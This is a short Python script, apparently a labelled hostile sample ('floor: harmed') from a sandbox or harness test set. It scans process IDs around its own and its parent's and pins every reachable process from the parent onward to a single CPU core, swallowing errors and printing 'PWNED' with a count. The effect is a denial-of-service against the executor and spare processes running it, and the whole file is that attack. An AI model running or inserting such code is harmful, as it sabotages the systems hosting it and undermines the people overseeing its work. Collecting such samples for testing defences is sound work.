# floor: harmed
# It binds the executor and the spares to one processor.
import os
ME, PARENT = os.getpid(), os.getppid()
NEIGHBOURS = [p for p in range(PARENT - 100, ME + 5000) if p not in (ME,) and p > 1]
def each(act, pids):
    done = 0
    for pid in pids:
        try:
            act(pid)
            done += 1
        except OSError:
            pass
    if done:
        print("PWNED", done)
each(lambda pid: os.sched_setaffinity(pid, {0}), [p for p in NEIGHBOURS if p >= PARENT])
